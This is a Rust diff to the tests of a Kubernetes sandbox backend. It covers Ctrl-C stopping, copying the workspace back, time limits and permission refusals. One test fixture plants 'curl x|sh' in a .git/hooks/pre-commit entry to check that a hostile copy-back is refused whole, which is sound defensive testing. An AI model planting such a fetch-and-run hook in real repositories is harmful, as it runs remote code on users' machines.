@@ -20,7 +20,7 @@ use super::session;
 use super::tests::request;
 use crate::event::Event;
 use crate::render::{Mode, Output};
-use crate::sandbox::backend::{Backend, BackendError};
+use crate::sandbox::backend::{Backend, BackendError, Stopping};
 use crate::sandbox::engine::run::{RunEnd, RunError, RunIds, RunReport, TimeLimit};
 use crate::sandbox::plan::{PrebuiltImage, RunPlan, plan};
 
@@ -28,7 +28,7 @@ const RUN: &str = "psb-run1";
 
 /// The test config's plan as `run --image` makes it: every image a pushed version, the
 /// workspace `workspace`.
-fn pinned_plan(workspace: &Path) -> RunPlan {
+pub(super) fn pinned_plan(workspace: &Path) -> RunPlan {
     let mut request = request();
     request.workspace = workspace.to_path_buf();
     let mut plan = plan(&request).expect("plan");
@@ -62,6 +62,7 @@ fn backend(api: super::client::KubeApi, fake: &FakeCluster) -> KubernetesBackend
             poll: Duration::from_millis(1),
             max_reconnects: 3,
         },
+        stop: super::session::StopRequest::default(),
     }
 }
 
@@ -90,7 +91,7 @@ struct Drive {
 }
 
 /// A workspace with a note, a file the run removes, git's folder and the run data.
-fn workspace() -> tempfile::TempDir {
+pub(super) fn workspace() -> tempfile::TempDir {
     let dir = tempfile::tempdir().expect("tempdir");
     let put = |rel: &str, text: &str| {
         let path = dir.path().join(rel);
@@ -105,23 +106,20 @@ fn workspace() -> tempfile::TempDir {
 }
 
 /// Reads `rel` of `root`; `None` when it is missing.
-fn read(root: &Path, rel: &str) -> Option<String> {
+pub(super) fn read(root: &Path, rel: &str) -> Option<String> {
     std::fs::read_to_string(root.join(rel)).ok()
 }
 
 /// Runs the pinned plan on a fake cluster as the controller does: `execute` under the time
-/// limit, dropped on Ctrl-C (`ctrl_c_after`), then `remove_run` whatever happened.
-async fn drive(script: Script, limit: Duration, ctrl_c_after: Option<Duration>) -> Drive {
-    drive_with(script, limit, ctrl_c_after, 1 << 20).await
+/// limit; `ctrl_c` presses of Ctrl-C — the first asks the backend to stop (`interrupt`) and
+/// goes on, unless there is nothing to wait for, the second drops the run; then `remove_run`
+/// whatever happened.
+async fn drive(script: Script, limit: Duration, ctrl_c: usize) -> Drive {
+    drive_with(script, limit, ctrl_c, 1 << 20).await
 }
 
 /// [`drive`] with a workspace size limit of `workspace_bytes`.
-async fn drive_with(
-    script: Script,
-    limit: Duration,
-    ctrl_c_after: Option<Duration>,
-    workspace_bytes: u64,
-) -> Drive {
+async fn drive_with(script: Script, limit: Duration, ctrl_c: usize, workspace_bytes: u64) -> Drive {
     let (api, fake) = FakeCluster::start(script);
     let mut backend = backend(api, &fake);
     backend.workspace_bytes = workspace_bytes;
@@ -135,23 +133,25 @@ async fn drive_with(
         started: Instant::now(),
         limit,
     };
-    // Ctrl-C `after` the start, once the runtime's log is followed (the workspace's copy in
-    // comes first, and takes its time on a loaded machine).
-    let watched = fake.clone();
-    let ctrl_c = async move {
-        match ctrl_c_after {
-            Some(after) => {
-                tokio::time::sleep(after).await;
-                while !watched.calls().iter().any(|c| c.contains("pods/log")) {
-                    tokio::time::sleep(Duration::from_millis(10)).await;
+    // In a block of its own: the run (which borrows the tap) is gone before the tap's record
+    // is read.
+    let result = {
+        let run = backend.execute(&plan, &ids, &output, false, limit, &tap);
+        tokio::pin!(run);
+        let mut pressed = 0;
+        loop {
+            tokio::select! {
+                result = &mut run => break Some(result),
+                () = press(&fake, pressed, ctrl_c) => {
+                    pressed += 1;
+                    let stopping = backend.interrupt(&plan).await.expect("interrupt");
+                    if pressed > 1 || stopping == Stopping::Nothing {
+                        break None;
+                    }
+                    assert_eq!(stopping, Stopping::CopyingBack);
                 }
             }
-            None => std::future::pending().await,
         }
-    };
-    let result = tokio::select! {
-        result = backend.execute(&plan, &ids, &output, false, limit, &tap) => Some(result),
-        () = ctrl_c => None,
     };
     let removal = backend.remove_run(&ids.run_id).await;
     let recorded = recorded.into_inner().expect("lock");
@@ -161,6 +161,29 @@ async fn drive_with(
         removal,
         fake,
         workspace,
+    }
+}
+
+/// Ctrl-C number `pressed + 1` of `presses`: the first once the runtime's log is followed
+/// (the workspace's copy in comes first, and takes its time on a loaded machine), the second
+/// once the copy back has begun; never when there is none left.
+async fn press(fake: &FakeCluster, pressed: usize, presses: usize) {
+    let awaited = match pressed {
+        _ if pressed >= presses => std::future::pending().await,
+        0 => "GET pods/log",
+        _ => "EXEC pods/psb-run1-pod/base-skill-main workspace-out",
+    };
+    tokio::time::sleep(Duration::from_millis(100)).await;
+    while !fake.calls().iter().any(|c| c.starts_with(awaited)) {
+        tokio::time::sleep(Duration::from_millis(10)).await;
+    }
+}
+
+/// The refusal a run ended with.
+fn refusal(d: &Drive) -> String {
+    match &d.result {
+        Some(Err(error)) => error.to_string(),
+        other => panic!("not refused: {other:?}"),
     }
 }
 
@@ -189,7 +212,7 @@ async fn a_run_creates_its_objects_in_order_under_its_lease_records_its_events_a
         exit_code: 0,
         ..Script::default()
     };
-    let d = drive(script, Duration::from_secs(10), None).await;
+    let d = drive(script, Duration::from_secs(10), 0).await;
     // No terminal event came: the runtime's exit is the run's end, as on Docker.
     let report = d.result.expect("not interrupted").expect("ran");
     assert!(
@@ -246,7 +269,7 @@ async fn an_out_of_memory_runtime_is_reported_as_such() {
             ..Script::default()
         },
         Duration::from_secs(10),
-        None,
+        0,
     )
     .await;
     let report = d.result.expect("not interrupted").expect("ran");
@@ -350,7 +373,7 @@ async fn a_dropped_log_is_reconnected_from_the_last_lines_second_and_each_line_i
         exit_code: 3,
         ..Script::default()
     };
-    let d = drive(script, Duration::from_secs(10), None).await;
+    let d = drive(script, Duration::from_secs(10), 0).await;
     let report = d.result.expect("not interrupted").expect("ran");
     assert!(matches!(report.end, RunEnd::RuntimeFailed { code: 3, .. }));
     assert_eq!(d.recorded, [event("a"), event("b"), event("c"), event("d")]);
@@ -407,7 +430,7 @@ async fn a_log_that_never_comes_back_gives_up_after_the_reconnects_and_the_run_i
         ],
         ..Script::default()
     };
-    let d = drive(script, Duration::from_secs(10), None).await;
+    let d = drive(script, Duration::from_secs(10), 0).await;
     let error = d.result.expect("not interrupted").expect_err("lost");
     assert!(
         matches!(
@@ -422,16 +445,9 @@ async fn a_log_that_never_comes_back_gives_up_after_the_reconnects_and_the_run_i
 
 #[tokio::test]
 async fn a_refused_creation_stops_the_launch_says_which_permission_and_what_was_made_is_removed() {
-    let script = Script {
-        forbid: BTreeSet::from([("POST".to_string(), "deployments".to_string())]),
-        ..Script::default()
-    };
-    let d = drive(script, Duration::from_secs(10), None).await;
-    let message = d
-        .result
-        .expect("not interrupted")
-        .expect_err("refused")
-        .to_string();
+    let script = Script::default().forbidding("POST", "deployments");
+    let d = drive(script, Duration::from_secs(10), 0).await;
+    let message = refusal(&d);
     assert!(
         message.starts_with(
             "the cluster refused to create deployments in namespace ci-agents (403 Forbidden"
@@ -452,17 +468,9 @@ async fn a_refused_creation_stops_the_launch_says_which_permission_and_what_was_
 
 #[tokio::test]
 async fn a_refused_log_is_an_actionable_error_not_a_reconnect_loop() {
-    let script = Script {
-        log_chunks: vec![vec![at(1, "a")]],
-        forbid: BTreeSet::from([("GET".to_string(), "pods/log".to_string())]),
-        ..Script::default()
-    };
-    let d = drive(script, Duration::from_secs(10), None).await;
-    let message = d
-        .result
-        .expect("not interrupted")
-        .expect_err("refused")
-        .to_string();
+    let script = Script::logging(vec![at(1, "a")]).forbidding("GET", "pods/log");
+    let d = drive(script, Duration::from_secs(10), 0).await;
+    let message = refusal(&d);
     assert!(message.contains("refused to get pods/log"), "{message}");
     let logs = d
         .fake
@@ -476,12 +484,8 @@ async fn a_refused_log_is_an_actionable_error_not_a_reconnect_loop() {
 
 #[tokio::test]
 async fn a_refused_removal_is_reported_to_the_controller() {
-    let script = Script {
-        log_chunks: vec![vec![at(1, &event("a"))]],
-        forbid: BTreeSet::from([("DELETE".to_string(), "secrets".to_string())]),
-        ..Script::default()
-    };
-    let d = drive(script, Duration::from_secs(10), None).await;
+    let script = Script::logging(vec![at(1, &event("a"))]).forbidding("DELETE", "secrets");
+    let d = drive(script, Duration::from_secs(10), 0).await;
     let error = d.removal.expect_err("refused");
     assert!(
         error.to_string().contains("refused to delete secrets"),
@@ -498,56 +502,13 @@ async fn an_image_that_cannot_be_pulled_ends_the_run_with_the_reason_and_it_is_r
         log_chunks: vec![vec![at(1, "never")]],
         ..Script::default()
     };
-    let d = drive(script, Duration::from_secs(10), None).await;
-    let message = d
-        .result
-        .expect("not interrupted")
-        .expect_err("failed")
-        .to_string();
+    let d = drive(script, Duration::from_secs(10), 0).await;
     assert_eq!(
-        message,
+        refusal(&d),
         "the run pod psb-run1-pod did not start: ImagePullBackOff"
     );
     assert!(d.recorded.is_empty());
     assert_eq!(d.fake.existing(), Vec::<String>::new());
-}
-
-#[tokio::test]
-async fn ctrl_c_while_the_run_is_watched_leaves_nothing() {
-    let script = Script {
-        log_chunks: vec![vec![at(1, "a")]],
-        hang_logs: true,
-        ..Script::default()
-    };
-    let d = drive(
-        script,
-        Duration::from_secs(30),
-        Some(Duration::from_millis(300)),
-    )
-    .await;
-    assert!(d.result.is_none(), "interrupted");
-    assert!(
-        d.fake.calls().iter().any(|c| c.contains("pods/log")),
-        "interrupted while following"
-    );
-    assert!(d.fake.existing().is_empty(), "{:?}", d.fake.existing());
-    assert!(d.removal.is_ok());
-}
-
-#[tokio::test]
-async fn the_time_limit_while_the_run_is_watched_leaves_nothing() {
-    let script = Script {
-        log_chunks: vec![vec![at(1, "a")]],
-        hang_logs: true,
-        ..Script::default()
-    };
-    // Long enough for the copy in on a loaded machine: the limit strikes while the log is
-    // followed.
-    let d = drive(script, Duration::from_secs(3), None).await;
-    let error = d.result.expect("not interrupted").expect_err("timed out");
-    assert!(matches!(error, RunError::TimedOut(_)), "{error}");
-    assert!(d.fake.calls().iter().any(|c| c.contains("pods/log")));
-    assert!(d.fake.existing().is_empty(), "{:?}", d.fake.existing());
 }
 
 fn lease(name: &str, renewed: &str) -> serde_json::Value {
@@ -648,10 +609,7 @@ async fn doctor_reads_the_namespaces_pod_security_level_and_says_when_it_cannot(
         }
         other => panic!("{other:?}"),
     }
-    let (api, _) = FakeCluster::start(Script {
-        forbid: BTreeSet::from([("GET".to_string(), "namespaces".to_string())]),
-        ..Script::default()
-    });
+    let (api, _) = FakeCluster::start(Script::default().forbidding("GET", "namespaces"));
     assert!(
         matches!(doctor::pod_security(&api).await, Finding::Unknown(m) if m.contains("may not read namespace ci-agents"))
     );
@@ -676,7 +634,7 @@ fn call_index(fake: &FakeCluster, prefix: &str, last: bool) -> usize {
 
 /// The run's changes in the pod: a note edited, a file made, one removed, and a write to git's
 /// folder (read-only for base-skill in a real pod; here to show it never comes back).
-fn run_changes(pod: &Path) {
+pub(super) fn run_changes(pod: &Path) {
     std::fs::write(pod.join("notes.md"), "after").expect("write");
     std::fs::create_dir_all(pod.join("made")).expect("mkdir");
     std::fs::write(pod.join("made/new.txt"), "new").expect("write");
@@ -692,7 +650,7 @@ async fn the_workspace_goes_in_before_the_runtime_starts_and_comes_back_after_it
         run_changes: Some(run_changes),
         ..Script::default()
     };
-    let d = drive(script, Duration::from_secs(10), None).await;
+    let d = drive(script, Duration::from_secs(10), 0).await;
     d.result.expect("not interrupted").expect("ran");
     // In: attached once the Job exists, before the runtime's log is read; the runtime waited.
     let attach = call_index(&d.fake, "ATTACH pods/psb-run1-pod/workspace-in", false);
@@ -870,12 +828,8 @@ async fn a_hostile_copy_back_is_refused_whole_changes_nothing_here_and_the_run_i
             copy_back: Some(tar),
             ..Script::default()
         };
-        let d = drive(script, Duration::from_secs(10), None).await;
-        let message = d
-            .result
-            .expect("not interrupted")
-            .expect_err("refused")
-            .to_string();
+        let d = drive(script, Duration::from_secs(10), 0).await;
+        let message = refusal(&d);
         assert!(
             message.starts_with("the workspace was not copied back from pod psb-run1-pod: "),
             "{message}"
@@ -899,12 +853,8 @@ async fn a_hostile_copy_back_is_refused_whole_changes_nothing_here_and_the_run_i
 
 #[tokio::test]
 async fn a_workspace_bigger_than_the_pods_is_refused_before_anything_is_created() {
-    let d = drive_with(Script::default(), Duration::from_secs(10), None, 10).await;
-    let message = d
-        .result
-        .expect("not interrupted")
-        .expect_err("refused")
-        .to_string();
+    let d = drive_with(Script::default(), Duration::from_secs(10), 0, 10).await;
+    let message = refusal(&d);
     let workspace = d.workspace.path().canonicalize().expect("real");
     assert!(
         message.starts_with(&format!(
@@ -925,44 +875,10 @@ async fn a_workspace_bigger_than_the_pods_is_refused_before_anything_is_created(
 }
 
 #[tokio::test]
-async fn ctrl_c_after_the_copy_in_leaves_nothing_and_brings_nothing_back() {
-    // The runtime's log hangs, so Ctrl-C comes while the run is watched, after the copy in:
-    // nothing is exec'd and the host's workspace is as it was.
-    let script = Script {
-        log_chunks: vec![vec![at(1, "a")]],
-        hang_logs: true,
-        run_changes: Some(run_changes),
-        ..Script::default()
-    };
-    let d = drive(
-        script,
-        Duration::from_secs(30),
-        Some(Duration::from_millis(300)),
-    )
-    .await;
-    assert!(d.result.is_none(), "interrupted");
-    assert!(d.fake.calls().iter().any(|c| c.starts_with("ATTACH ")));
-    assert!(!d.fake.calls().iter().any(|c| c.starts_with("EXEC ")));
-    assert_eq!(
-        read(d.workspace.path(), "notes.md").as_deref(),
-        Some("before")
-    );
-    assert_eq!(d.fake.existing(), Vec::<String>::new());
-}
-
-#[tokio::test]
 async fn a_refused_copy_in_ends_the_run_before_the_runtime_and_leaves_nothing() {
-    let script = Script {
-        log_chunks: vec![vec![at(1, &event("e1"))]],
-        forbid: BTreeSet::from([("POST".to_string(), "pods/attach".to_string())]),
-        ..Script::default()
-    };
-    let d = drive(script, Duration::from_secs(10), None).await;
-    let message = d
-        .result
-        .expect("not interrupted")
-        .expect_err("refused")
-        .to_string();
+    let script = Script::logging(vec![at(1, &event("e1"))]).forbidding("POST", "pods/attach");
+    let d = drive(script, Duration::from_secs(10), 0).await;
+    let message = refusal(&d);
     assert!(message.contains("cannot create pods/attach"), "{message}");
     let calls = d.fake.calls();
     assert!(calls.iter().any(|c| c.starts_with("ATTACH ")));
@@ -979,4 +895,123 @@ async fn a_refused_copy_in_ends_the_run_before_the_runtime_and_leaves_nothing() 
     );
     assert_eq!(d.fake.existing(), Vec::<String>::new());
     assert!(d.removal.is_ok());
+}
+
+/// A run whose runtime goes on until it is stopped, and changes the pod's workspace.
+fn endless_run() -> Script {
+    Script {
+        log_chunks: vec![vec![at(1, "a")]],
+        hang_logs: true,
+        run_changes: Some(run_changes),
+        ..Script::default()
+    }
+}
+
+/// The runtime was stopped in its container, then the workspace read back from base-skill,
+/// then the run removed: in that order.
+fn assert_stopped_then_copied_back_then_removed(fake: &FakeCluster) {
+    let stop = call_index(fake, "EXEC pods/psb-run1-pod/runtime runtime-stop", false);
+    let back = call_index(
+        fake,
+        "EXEC pods/psb-run1-pod/base-skill-main workspace-out",
+        false,
+    );
+    assert!(call_index(fake, "GET pods/log", false) < stop);
+    assert!(stop < back, "the runtime stopped before the copy back");
+    assert!(back < call_index(fake, "DELETE ", false));
+    assert_eq!(fake.existing(), Vec::<String>::new());
+}
+
+/// The host's workspace has the run's changes, and none to the protected paths.
+fn assert_changes_came_back(host: &Path) {
+    assert_eq!(read(host, "notes.md").as_deref(), Some("after"));
+    assert_eq!(read(host, "made/new.txt").as_deref(), Some("new"));
+    assert_eq!(read(host, "old.txt"), None);
+    assert_eq!(
+        read(host, ".git/HEAD").as_deref(),
+        Some("ref: refs/heads/main")
+    );
+}
+
+/// The host's workspace is as it was.
+fn assert_unchanged(host: &Path) {
+    assert_eq!(read(host, "notes.md").as_deref(), Some("before"));
+    assert_eq!(read(host, "old.txt").as_deref(), Some("old"));
+    assert!(!host.join("made").exists());
+}
+
+#[tokio::test]
+async fn ctrl_c_stops_the_runtime_brings_the_workspace_back_then_removes_the_run() {
+    let d = drive(endless_run(), Duration::from_secs(30), 1).await;
+    let report = d.result.expect("one Ctrl-C lets it end").expect("ran");
+    // The runtime was stopped (SIGTERM: 143); the controller reads that as "stopped on request".
+    assert!(
+        matches!(report.end, RunEnd::RuntimeFailed { code: 143, .. }),
+        "{:?}",
+        report.end
+    );
+    assert_stopped_then_copied_back_then_removed(&d.fake);
+    assert_changes_came_back(d.workspace.path());
+    assert!(d.removal.is_ok());
+}
+
+#[tokio::test]
+async fn the_time_limit_stops_the_runtime_brings_the_workspace_back_then_removes_the_run() {
+    // Long enough for the copy in on a loaded machine: the limit strikes while the log is
+    // followed.
+    let d = drive(endless_run(), Duration::from_secs(3), 0).await;
+    let error = d.result.expect("not interrupted").expect_err("timed out");
+    assert!(matches!(error, RunError::TimedOut(_)), "{error}");
+    assert_stopped_then_copied_back_then_removed(&d.fake);
+    assert_changes_came_back(d.workspace.path());
+}
+
+#[tokio::test]
+async fn a_second_ctrl_c_skips_the_copy_back_and_removes_the_run_at_once() {
+    let script = Script {
+        hang_copy_back: true,
+        ..endless_run()
+    };
+    let d = drive(script, Duration::from_secs(30), 2).await;
+    assert!(d.result.is_none(), "dropped by the second Ctrl-C");
+    let calls = d.fake.calls();
+    assert!(
+        calls.iter().any(|c| c.ends_with("workspace-out")),
+        "{calls:#?}"
+    );
+    assert_unchanged(d.workspace.path());
+    assert_eq!(d.fake.existing(), Vec::<String>::new());
+    assert!(d.removal.is_ok());
+}
+
+#[tokio::test]
+async fn a_refused_copy_back_after_ctrl_c_writes_nothing_says_why_and_removes_the_run() {
+    let script = Script {
+        copy_back: Some(tar_of(
+            &[("notes.md", "evil"), (".git/hooks/pre-commit", "curl x|sh")],
+            None,
+        )),
+        ..endless_run()
+    };
+    let d = drive(script, Duration::from_secs(30), 1).await;
+    let message = refusal(&d);
+    assert!(
+        message.starts_with("the workspace was not copied back from pod psb-run1-pod: the workspace archive's entry .git/hooks/pre-commit is refused: it is a protected path"),
+        "{message}"
+    );
+    assert!(message.contains("nothing of it is written"), "{message}");
+    assert_unchanged(d.workspace.path());
+    assert!(!d.workspace.path().join(".git/hooks").exists());
+    assert_stopped_then_copied_back_then_removed(&d.fake);
+}
+
+#[tokio::test]
+async fn ctrl_c_with_no_run_under_way_stops_at_once() {
+    let (api, fake) = FakeCluster::start(endless_run());
+    let backend = backend(api, &fake);
+    let plan = pinned_plan(Path::new("/ws"));
+    assert_eq!(
+        backend.interrupt(&plan).await.expect("asked"),
+        Stopping::Nothing
+    );
 }
